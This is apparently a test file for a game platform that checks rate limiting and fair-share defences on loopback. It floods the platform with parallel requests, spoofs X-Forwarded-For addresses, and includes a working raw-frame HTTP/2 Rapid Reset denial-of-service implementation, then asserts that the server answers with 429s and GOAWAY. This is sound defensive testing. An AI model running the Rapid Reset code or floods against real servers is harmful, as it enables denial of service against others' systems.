/**
 * Fair share under load (issue 46 item 4): one client abuses the platform — 100 parallel history
 * pages from one player, many parallel requests from one address, HTTP/2 Rapid Reset on one
 * connection — while a bystander player on another network browses their history; the
 * bystander's p95 stays under a second. The platform runs in its own process (the test's own
 * event loop must not be the bottleneck) on PGlite, or on DATABASE_URL when set; loopback only,
 * each abuse bounded to a few seconds. Addresses come from X-Forwarded-For through a trusted
 * proxy (127.0.0.1), as behind a load balancer.
 */
import { connect, constants, type ClientHttp2Session } from 'node:http2';
import { connect as tlsConnect } from 'node:tls';
import { Worker } from 'node:worker_threads';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SMALL_SEED, workerDatabase, type DemoPlayer } from './helpers';
import { startPlatformProcess, type PlatformProcess } from './processes';

const ABUSE_MS = 4_000;
const BYSTANDER_ADDRESS = '203.0.113.7';
const ABUSER_ADDRESS = '198.51.100.9';

const historyPath = (p: DemoPlayer, start = 0) =>
  `/api/history/${p.longGame}/get-history-record?LangId=en-US&StartRowIndex=${start}&EndRowIndex=${start + 49}&LogIndexAsRoundIndex=false`;

const p95 = (samples: number[]) => {
  const sorted = [...samples].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * 0.95))] ?? Infinity;
};

async function platform(extra: Record<string, unknown> = {}): Promise<PlatformProcess> {
  const databaseUrl = process.env.DATABASE_URL ? await workerDatabase(process.env.DATABASE_URL) : null;
  return startPlatformProcess({
    databaseUrl,
    dataDir: null,
    demo: true,
    seed: SMALL_SEED,
    reset: Boolean(databaseUrl),
    rateLimitPerMinute: 100_000,
    trustedProxies: ['127.0.0.1'],
    // Tighter than the defaults (32 and 64), so that loopback's pace reaches them in 4 s.
    maxInFlightPerPlayer: 8,
    maxInFlightPerAddress: 24,
    ...extra,
  } as never);
}

async function fetchFrom(base: string, address: string, path: string, init: RequestInit = {}) {
  const response = await fetch(`${base}${path}`, {
    ...init,
    headers: { 'X-Forwarded-For': address, 'Content-Type': 'application/json', ...init.headers },
  });
  return { status: response.status, body: await response.text() };
}

async function loginAll(base: string, address: string, players: DemoPlayer[]): Promise<string[]> {
  const tokens: string[] = [];
  for (const p of players) {
    const r = await fetchFrom(base, address, '/api/token', {
      method: 'POST',
      body: JSON.stringify({ Token: p.gameToken }),
    });
    tokens.push(JSON.parse(r.body).Data.Token);
  }
  return tokens;
}

/** The bystander's history pages, one after another while `busy` holds; each latency in ms. */
async function bystander(until: number, request: () => Promise<number>): Promise<number[]> {
  const latencies: number[] = [];
  while (Date.now() < until) {
    const t = performance.now();
    const status = await request();
    latencies.push(performance.now() - t);
    expect(status).toBe(200);
    await new Promise((r) => setTimeout(r, 50));
  }
  return latencies;
}

/** A request of the abuser's: its path and headers (its address among them). */
interface Abuse {
  path: string;
  headers: Record<string, string>;
}

/**
 * Keep `inFlight` requests going until `until`, taking them from `requests` in turn; how many got
 * each status. In a worker thread: the abuser's own parsing must not slow the bystander's client.
 */
function flood(base: string, until: number, inFlight: number, requests: Abuse[]): Promise<Map<number, number>> {
  const worker = new Worker(
    `const { parentPort, workerData: { base, until, inFlight, requests } } = require('node:worker_threads');
    const statuses = {};
    let n = 0;
    const lane = async () => {
      while (Date.now() < until) {
        const { path, headers } = requests[n++ % requests.length];
        const status = await fetch(base + path, { headers }).then(async (r) => (await r.arrayBuffer(), r.status), () => 0);
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    };
    Promise.all(Array.from({ length: inFlight }, lane)).then(() => parentPort.postMessage(statuses));`,
    { eval: true, workerData: { base, until, inFlight, requests } },
  );
  return new Promise((resolve, reject) => {
    worker.once('message', (statuses: Record<string, number>) => {
      void worker.terminate();
      resolve(new Map(Object.entries(statuses).map(([status, n]) => [Number(status), n])));
    });
    worker.once('error', reject);
  });
}

describe('fair share over HTTP/1.1', () => {
  let server: PlatformProcess;
  let players: DemoPlayer[];
  let tokens: string[];
  beforeAll(async () => {
    server = await platform();
    players = (await (await fetch(`${server.url}/__demo/players`)).json()) as DemoPlayer[];
    players = players.filter((p) => p.longGame && p.rounds > 0).slice(0, 4);
    tokens = await loginAll(server.url, ABUSER_ADDRESS, players);
  }, 180_000);
  afterAll(() => server?.stop());

  const bystanderPage = () =>
    fetchFrom(server.url, BYSTANDER_ADDRESS, historyPath(players[0]!), {
      headers: { Authorization: `Bearer ${tokens[0]}` },
    }).then((r) => r.status);

  it('a bystander alone (the baseline the abuse is compared with)', async () => {
    const latencies = await bystander(Date.now() + 1_500, bystanderPage);
    console.log(`[fair-share] no abuse: bystander p95 ${p95(latencies).toFixed(0)} ms over ${latencies.length} pages`);
    expect(p95(latencies)).toBeLessThan(1_000);
  });

  it('100 parallel history pages from one player: the extra ones get a fast 429, a bystander p95 under 1 s', async () => {
    const until = Date.now() + ABUSE_MS;
    const [statuses, latencies] = await Promise.all([
      flood(
        server.url,
        until,
        100,
        [0, 1, 2, 3, 4].map((page) => ({
          path: historyPath(players[1]!, page * 50),
          headers: { 'X-Forwarded-For': ABUSER_ADDRESS, Authorization: `Bearer ${tokens[1]}` },
        })),
      ),
      bystander(until, bystanderPage),
    ]);
    console.log(
      `[fair-share] one player, 100 in flight: bystander p95 ${p95(latencies).toFixed(0)} ms over ${latencies.length} pages; abuser`,
      Object.fromEntries(statuses),
    );
    expect(statuses.get(429) ?? 0).toBeGreaterThan(0);
    expect(p95(latencies)).toBeLessThan(1_000);
  }, 60_000);

  it('many parallel requests from one address: the extra ones get a fast 429, a bystander p95 under 1 s', async () => {
    const until = Date.now() + ABUSE_MS;
    const [statuses, latencies] = await Promise.all([
      flood(server.url, until, 150, [
        { path: '/api/game-setting/user-api-info/3', headers: { 'X-Forwarded-For': ABUSER_ADDRESS } },
        ...[1, 2, 3].map((i) => ({
          path: historyPath(players[i]!),
          headers: { 'X-Forwarded-For': ABUSER_ADDRESS, Authorization: `Bearer ${tokens[i]}` },
        })),
      ]),
      bystander(until, bystanderPage),
    ]);
    console.log(
      `[fair-share] one address, 150 in flight: bystander p95 ${p95(latencies).toFixed(0)} ms over ${latencies.length} pages; abuser`,
      Object.fromEntries(statuses),
    );
    expect(statuses.get(429) ?? 0).toBeGreaterThan(0);
    expect(p95(latencies)).toBeLessThan(1_000);
  }, 60_000);
});

describe('fair share over HTTP/2', () => {
  let server: PlatformProcess;
  let players: DemoPlayer[];
  let tokens: string[];
  beforeAll(async () => {
    server = await platform({ http2: true });
    process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
    players = (await (await fetch(`${server.url}/__demo/players`)).json()) as DemoPlayer[];
    players = players.filter((p) => p.longGame && p.rounds > 0).slice(0, 2);
    tokens = await loginAll(server.url, ABUSER_ADDRESS, players);
  }, 180_000);
  afterAll(async () => {
    delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    await server?.stop();
  });

  const h2 = () => connect(server.url, { rejectUnauthorized: false });
  const h2Get = (session: ClientHttp2Session, path: string, token: string) =>
    new Promise<number>((resolve, reject) => {
      const stream = session.request({
        ':path': path,
        authorization: `Bearer ${token}`,
        'x-forwarded-for': BYSTANDER_ADDRESS,
      });
      let status = 0;
      stream.on('response', (h) => (status = Number(h[':status'])));
      stream.on('error', reject);
      stream.on('close', () => resolve(status));
      stream.resume();
      stream.end();
    });

  it('Rapid Reset on one connection: the server sends GOAWAY, a bystander p95 under 1 s', async () => {
    const until = Date.now() + ABUSE_MS;
    const victim = h2();
    const attack = rapidReset(new URL(server.url), historyPath(players[1]!), tokens[1]!, until);
    try {
      const [outcome, latencies] = await Promise.all([
        attack,
        bystander(until, () => h2Get(victim, historyPath(players[0]!), tokens[0]!)),
      ]);
      console.log(
        `[fair-share] HTTP/2 rapid reset: ${outcome.streams} streams opened and reset, GOAWAY ${outcome.goaway} (code ${outcome.code}, after ${outcome.seconds} s); bystander p95 ${p95(latencies).toFixed(0)} ms over ${latencies.length} pages`,
      );
      expect(outcome.code).toBe(constants.NGHTTP2_ENHANCE_YOUR_CALM);
      expect(outcome.seconds).toBeLessThan(2);
      expect(p95(latencies)).toBeLessThan(1_000);
    } finally {
      victim.close();
    }
  }, 60_000);
});

/**
 * The Rapid Reset attack as its tools send it, in raw frames (node's own client never sends a
 * stream it has already cancelled): HEADERS then RST_STREAM(CANCEL), stream after stream, on one
 * TLS connection, until `until` or the server's GOAWAY.
 */
function rapidReset(url: URL, path: string, token: string, until: number) {
  const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head[3] = type;
    head[4] = flags;
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, payload]);
  };
  // HPACK: :method GET, :scheme https (static table), :path and :authority as literals, authorization.
  // An HPACK string (no Huffman) with its length as a 7-bit-prefix integer.
  const string = (value: string) => {
    const bytes: number[] = [];
    let n = Buffer.byteLength(value);
    if (n < 127) bytes.push(n);
    else {
      bytes.push(127);
      for (n -= 127; n >= 128; n >>= 7) bytes.push((n & 127) | 128);
      bytes.push(n);
    }
    return Buffer.concat([Buffer.from(bytes), Buffer.from(value)]);
  };
  // Literal header fields without indexing (4-bit prefix: the static-table index of the name, or 0).
  const literal = (index: number, value: string) => Buffer.concat([Buffer.from([index]), string(value)]);
  const block = Buffer.concat([
    Buffer.from([0x82, 0x87]),
    literal(4, path),
    literal(1, url.host),
    Buffer.from([0x00]),
    string('authorization'),
    string(`Bearer ${token}`),
  ]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(constants.NGHTTP2_CANCEL);
  return new Promise<{ streams: number; goaway: boolean; code: number; seconds: number }>((resolve) => {
    let streams = 0;
    let goaway = false;
    let code = -1;
    let seconds = 0;
    const started = Date.now();
    let received = Buffer.alloc(0);
    const socket = tlsConnect(
      { host: url.hostname, port: Number(url.port), ALPNProtocols: ['h2'], rejectUnauthorized: false },
      () => {
        socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
        let id = 1;
        const burst = () => {
          if (goaway || socket.destroyed || Date.now() >= until) return finish();
          const frames: Buffer[] = [];
          for (let i = 0; i < 100; i++, id += 2, streams++)
            frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
          socket.write(Buffer.concat(frames), () => setImmediate(burst));
        };
        burst();
      },
    );
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received[3] === 7 && !goaway) {
          goaway = true;
          code = received.readUInt32BE(13);
          seconds = (Date.now() - started) / 1000;
        }
        received = received.subarray(9 + length);
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => finish());
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve({ streams, goaway, code, seconds });
    };
  });
}
